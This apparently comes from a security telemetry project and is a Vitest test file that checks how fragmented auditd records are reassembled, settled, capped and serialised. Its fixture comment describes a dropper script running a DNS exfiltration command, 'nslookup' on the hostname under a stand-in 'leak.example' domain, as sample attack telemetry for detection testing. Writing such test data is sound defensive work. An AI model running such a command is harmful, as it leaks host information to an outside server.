import { describe, expect, it } from "vitest";
import {
  type BatchFragment,
  DEFAULT_PENDING_LIMITS,
  decodeHostPending,
  encodeHostPending,
  type HostPending,
  type Reassembly,
  reassemble,
  settleStates,
} from "../../lib/pipeline/pending-events.js";
import { createAuditdDecoder } from "../../lib/telemetry/sources/auditd.js";
import type { AuditFragment } from "../../lib/telemetry/sources/auditd-fragment.js";

/**
 * The parts of an auditd event that invocations hand each other, on real records: A1 of the recorded
 * procedures, `/tmp/dropper.sh` running `nslookup "$(hostname).leak.example" 192.0.2.53` (serial 76).
 */
const A1 = [
  'type=SYSCALL msg=audit(1796266184.201:76): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=7716 pid=7718 auid=4444 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="nslookup" exe="/usr/bin/nslookup" key="t"',
  'type=EXECVE msg=audit(1796266184.201:76): argc=3 a0="nslookup" a1="vm.leak.example" a2="192.0.2.53"',
  'type=CWD msg=audit(1796266184.201:76): cwd="/"',
  'type=PATH msg=audit(1796266184.201:76): item=0 name="/usr/bin/nslookup" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  "type=PROCTITLE msg=audit(1796266184.201:76): proctitle=6E736C6F6F6B7570",
];
const KEY = "vm:1796266184.201:76";
const NOW = 1_800_000_000_000;

/** What one invocation holding `lines` hands over (its units all 0 unless given). */
function parts(lines: readonly string[], unit = 0): BatchFragment[] {
  const decoder = createAuditdDecoder({ defaultHost: "vm" }, { deferIncomplete: true });
  lines.forEach((text, i) => {
    decoder.push({ text, line: i + 1 }, []);
  });
  return decoder.takeOpen().map((fragment: AuditFragment) => ({ fragment, line: fragment.line, unit }));
}

const stored = (state?: HostPending) => new Map([["vm", state]]);
const stateOf = (r: Reassembly) => r.states.get("vm")!;

describe("reassemble", () => {
  it.each([
    ["in order: the head first, then the rest", [A1.slice(0, 2), A1.slice(2)]],
    ["out of order: the tail first, then the head", [A1.slice(2), A1.slice(0, 2)]],
    ["three parts, the middle last", [A1.slice(0, 1), A1.slice(3), A1.slice(1, 3)]],
  ])("%s: the event is ready once, with everything", (_name, deliveries) => {
    let state: HostPending | undefined;
    const ready = [];
    for (const lines of deliveries) {
      const r = reassemble(stored(state), parts(lines), NOW);
      ready.push(...r.ready);
      state = settleStates(r, undefined, new Map()).get("vm");
    }
    expect(ready).toHaveLength(1);
    const [event] = ready;
    expect(event!.fragment).toMatchObject({ key: KEY, cwd: "/", path0: "/usr/bin/nslookup", argc: 3 });
    expect(event!.stored).toBe(true);
    expect(state!.entries.size).toBe(0);
    expect(state!.done.map(([k]) => k)).toEqual([KEY]);
  });

  it("a head waits with the lineage resolved for it; a late duplicate of a completed event is dropped", () => {
    const first = reassemble(stored(), parts(A1.slice(0, 2)), NOW);
    expect(first.ready).toEqual([]);
    expect(first.waitingHeads.map((h) => h.fragment.key)).toEqual([KEY]);
    const state = settleStates(
      first,
      undefined,
      new Map([[KEY, '{"v":1,"pp":7716,"e":"/usr/bin/dash","t":1}']]),
    );
    expect(state.get("vm")!.entries.get(KEY)!.snapshot).toContain("dash");
    const second = reassemble(state, parts(A1.slice(2)), NOW);
    expect(second.ready[0]!.snapshot).toContain("dash");
    const after = settleStates(second, undefined, new Map());
    const again = reassemble(after, parts(A1.slice(0, 2)), NOW);
    expect(again.ready).toEqual([]);
    expect(again.counters.late).toBe(1);
  });

  it("a part whose rest never comes is judged as it is after the wait, counted", () => {
    const first = settleStates(reassemble(stored(), parts(A1.slice(0, 3)), NOW), undefined, new Map());
    const early = reassemble(first, [], NOW + DEFAULT_PENDING_LIMITS.waitMs - 1);
    expect(early.ready).toEqual([]);
    const due = reassemble(first, [], NOW + DEFAULT_PENDING_LIMITS.waitMs);
    expect(due.ready).toMatchObject([{ judged: true, unit: 0, line: undefined }]);
    expect(due.counters.judged).toBe(1);
    expect(stateOf(due).entries.size).toBe(0);
  });

  it("beyond the host's caps, the oldest parts are judged at once", () => {
    const limits = { ...DEFAULT_PENDING_LIMITS, maxEntries: 1 };
    const other = A1.map((l) => l.replaceAll(":76)", ":77)").replaceAll(".201:", ".202:"));
    const first = settleStates(
      reassemble(stored(), parts(A1.slice(0, 3)), NOW, limits),
      undefined,
      new Map(),
    );
    const second = reassemble(first, parts(other.slice(0, 3)), NOW + 1, limits);
    expect(second.ready.map((r) => [r.fragment.key, r.judged])).toEqual([[KEY, true]]);
    expect(stateOf(second).entries.size).toBe(1);
  });

  it.each([
    ["a redelivery from the completing unit", 3, true],
    ["a redelivery from a later unit", 4, false],
    ["no redelivery", undefined, false],
  ])("%s: the consumed part is put back only if its unit comes again", (_name, from, kept) => {
    const head = settleStates(reassemble(stored(), parts(A1.slice(0, 2)), NOW), undefined, new Map());
    const completing = reassemble(head, parts(A1.slice(2), 3), NOW);
    expect(completing.ready).toHaveLength(1);
    const settled = settleStates(completing, from, new Map()).get("vm")!;
    expect(settled.entries.has(KEY)).toBe(kept);
    expect(settled.done.some(([k]) => k === KEY)).toBe(!kept);
  });

  it("a host's state survives its JSON: parts, waiting utilities and completed keys", () => {
    const head = settleStates(reassemble(stored(), parts(A1.slice(0, 2)), NOW), undefined, new Map());
    const state = head.get("vm")!;
    state.waiting.set("vm:x", {
      event: {
        host: { name: "vm" },
        user: {},
        process: { pid: 9, ppid: 8, executable: "/usr/bin/curl", args: ["curl"] },
        time: 1,
        source: { format: "auditd", eventId: "vm:x" },
      },
      storedAt: NOW,
    });
    state.waiting.set("vm:z", {
      event: {
        host: { name: "vm" },
        user: {},
        process: { pid: 10, ppid: 8, executable: "/usr/bin/dig", args: ["dig"] },
        time: 2,
        source: { format: "auditd", eventId: "vm:z" },
      },
      storedAt: NOW,
      settled: true,
    });
    state.done.push(["vm:y", NOW]);
    const back = decodeHostPending(encodeHostPending(state), "vm")!;
    expect(encodeHostPending(back)).toBe(encodeHostPending(state));
    expect([...back.waiting.values()].map((w) => w.settled)).toEqual([undefined, true]);
    expect(decodeHostPending(encodeHostPending(state), "another-host")).toBeUndefined();
    expect(decodeHostPending("{", "vm")).toBeUndefined();
  });
});
